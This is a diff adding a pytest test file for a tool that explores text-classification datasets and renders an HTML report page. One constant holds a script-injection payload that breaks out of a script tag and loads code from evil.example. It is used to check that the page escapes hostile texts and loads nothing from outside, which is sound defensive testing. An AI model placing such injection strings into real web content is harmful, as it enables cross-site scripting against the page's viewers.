@@ -1,0 +1,172 @@
+"""A whole exploration with a tiny model: what is measured, what the page holds, what it must not hold."""
+
+import csv
+import json
+import re
+
+import numpy as np
+import pytest
+from datasets import ClassLabel, Dataset, Features, List, Value
+from transformers import AutoTokenizer
+
+import explore as command
+from tests.tiny_models import ENGLISH, KOREAN
+from textclf.arguments import DataArguments
+from textclf.data.loading import load_splits
+from textclf.errors import UserError
+from textclf.exploration.arguments import ExploreOptions
+from textclf.exploration.explore import explore
+from textclf.exploration.label_counts import indicator
+from textclf.exploration.render import page_path, render, script_data
+from textclf.exploration.text_lengths import measure_lengths
+from textclf.labels import LabelSpace
+
+OUTSIDE_LOAD = re.compile(r'<(script|link|img|iframe)[^>]*(src|href)="https?://')
+HOSTILE = '</script><script src="https://evil.example/x.js"></script><img src="https://evil.example/i.png">'
+
+
+def write_csv(path, rows, header=("text", "label")):
+    with path.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([header, *rows])
+    return path
+
+
+def page_data(page):
+    return json.loads(re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.S)[1])
+
+
+@pytest.fixture(scope="module")
+def hostile_page(tiny_model, tmp_path_factory):
+    """A page of English and Korean texts, some of which try to break out of it, with hostile label names."""
+    rows = [
+        (f"{text} {HOSTILE if i % 4 == 0 else ''} {i}", "<b>on</b>" if i % 2 else HOSTILE)
+        for i, text in enumerate(ENGLISH * 2)
+    ]
+    rows += [(f"{text} {i}", "한국어") for i, text in enumerate(KOREAN)]
+    path = write_csv(tmp_path_factory.mktemp("data") / "hostile.csv", rows)
+    args = DataArguments(dataset=str(path))
+    found = explore(load_splits(args), args, ExploreOptions(model=str(tiny_model("bert"))))
+    return found, render(found)
+
+
+def test_nothing_is_loaded_from_outside(hostile_page):
+    _, page = hostile_page
+    assert not OUTSIDE_LOAD.search(page)
+    assert "default-src 'none'" in page
+
+
+def test_texts_cannot_break_out_of_the_page(hostile_page):
+    _, page = hostile_page
+    assert "evil.example" in page
+    assert '<script src="https://evil' not in page
+    assert len(re.findall(r"<script[ >]", page)) == len(re.findall(r"</script>", page))
+
+
+def test_the_page_draws_what_was_found(hostile_page):
+    found, page = hostile_page
+    data = page_data(page)
+    assert sorted(data["labels"]) == sorted(found.labels.names)
+    at = data["labels"].index("한국어")
+    assert {split: counts[at] for split, counts in data["counts"].items()} == {
+        split: split_labels["labels"].count(found.labels.label2id["한국어"])
+        for split, split_labels in _loaded(found).items()
+    }
+    assert len(data["map"]["texts"]) == len(data["map"]["fields"]["text"]["pca"][0]) == found.provenance.sizes["train"]
+    assert all(len(text) <= 180 for text in data["map"]["texts"])
+    words = {word for word, *_ in data["words"]["1"][at]["frequent"]}
+    assert words
+    assert all(re.search("[가-힣]", word) for word in words)
+
+
+def _loaded(found):
+    counts = found.counts.per_split
+    return {split: {"labels": np.repeat(np.arange(len(row)), row).tolist()} for split, row in counts.items()}
+
+
+def test_only_training_texts_are_shown_as_words_and_on_the_map(tiny_model, tmp_path):
+    train = write_csv(tmp_path / "train.csv", [(f"{t} {i}", "ab"[i % 2]) for i, t in enumerate(ENGLISH)])
+    held_out = write_csv(tmp_path / "held.csv", [(f"zanzibar secret {i}", "ab"[i % 2]) for i in range(8)])
+    args = DataArguments(dataset=None, train_file=str(train), validation_file=str(held_out), test_file=str(held_out))
+    found = explore(load_splits(args), args, ExploreOptions(model=str(tiny_model("bert"))))
+    drawn = json.dumps(page_data(render(found)))
+    assert "zanzibar" not in drawn
+    assert "stadium" in drawn
+
+
+def test_several_labels_and_two_fields_give_three_maps(tiny_model, tmp_path):
+    rows = [
+        (t, k, "sport|late" if i % 3 == 0 else "sport" if i % 3 == 1 else "")
+        for i, (t, k) in enumerate(zip(ENGLISH, KOREAN, strict=True))
+    ]
+    path = write_csv(tmp_path / "tags.csv", rows, header=("title", "body", "tags"))
+    args = DataArguments(dataset=str(path), label_separator="|", label_columns=["tags"])
+    found = explore(load_splits(args), args, ExploreOptions(model=str(tiny_model("bert")), map_points=10))
+    data = page_data(render(found))
+    assert list(data["map"]["fields"]) == ["both", "text", "text_pair"]
+    assert data["multiLabel"]
+    assert sum(data["labelsPerText"]) == found.provenance.sizes["train"]
+    assert len(found.embedded.texts) == 10
+    assert any("stratified sample: 10 of" in note for note in found.notes)
+
+
+def test_lengths_are_those_of_the_tokenizer(tiny_model):
+    texts = [text[: 10 + 7 * i] for i, text in enumerate(ENGLISH[:12])]
+    labels = Features({"text": Value("string"), "labels": ClassLabel(names=["a", "b", "never"])})
+    train = Dataset.from_dict({"text": texts, "labels": [i % 2 for i in range(12)]}, features=labels)
+    tokenizer = AutoTokenizer.from_pretrained(tiny_model("bert"))
+    carried = indicator(train, LabelSpace.from_features(train.features))
+    lengths = measure_lengths(train, carried, tokenizer, DataArguments(length_coverage=0.9), limit=128)
+    tokens = sorted(len(tokenizer(text)["input_ids"]) for text in texts)
+    assert lengths.max_length == lengths.tokens.covering["0.9"] == tokens[10]  # 11 of 12 are the first to be 90 %
+    assert lengths.cut == sum(n > tokens[10] for n in tokens)
+    assert lengths.characters.covering["1.0"] == max(map(len, texts))
+    assert lengths.tokens.counts.sum() + lengths.tokens.beyond == 12
+    medians = [np.median([len(text) for text in texts[first::2]]) for first in (0, 1)]
+    assert lengths.characters.per_label[:2, 2].tolist() == medians
+    assert np.isnan(lengths.characters.per_label[2]).all()
+
+
+def test_indicators_are_one_hot_or_as_given():
+    several = Features({"labels": List(ClassLabel(names=["x", "y", "z"]))})
+    split = Dataset.from_dict({"labels": [[0, 2], [], [1]]}, features=several)
+    assert indicator(split, LabelSpace.from_features(several)).tolist() == [[1, 0, 1], [0, 0, 0], [0, 1, 0]]
+
+
+def test_script_data_is_json_that_ends_no_script():
+    text = script_data({"text": "</script><!-- \u2028 한"})
+    assert "<" not in text
+    assert "\u2028" not in text
+    assert json.loads(text) == {"text": "</script><!-- \u2028 한"}
+
+
+@pytest.mark.parametrize("output", ["page.pdf", "page", "."])
+def test_the_page_must_be_an_html_file(output):
+    with pytest.raises(UserError, match=r"--output names the HTML page to write; found .* --output news\.html"):
+        page_path(output, "news")
+
+
+def test_the_page_is_named_after_the_data():
+    assert str(page_path(None, "news")) == "news.html"
+
+
+def test_options_of_training_are_refused(tmp_path):
+    with pytest.raises(UserError, match="--resample changes what is trained on"):
+        command.main(["news_sample", "--resample", "oversample"])
+
+
+def test_more_points_than_can_be_told_apart_are_refused():
+    with pytest.raises(UserError, match="--map_points takes a number from 2 to 5000; found 9000"):
+        command.main(["news_sample", "--map_points", "9000"])
+
+
+def test_the_command_writes_the_page_and_shows_a_summary(tiny_model, tmp_path, capsys):
+    rows = [(text, "english") for text in ENGLISH] + [(text, "한국어") for text in KOREAN]
+    path = write_csv(tmp_path / "two.csv", rows)
+    page = tmp_path / "deep" / "page.html"
+    command.main([str(path), "--model", str(tiny_model("bert")), "--output", str(page)])
+    shown = capsys.readouterr()
+    assert "suggested max_length" in shown.out
+    assert "한국어" in shown.out
+    assert "page.html" in shown.out.replace("\n", "")
+    assert "two" in page.read_text(encoding="utf-8")
+    assert "carved out" in shown.err
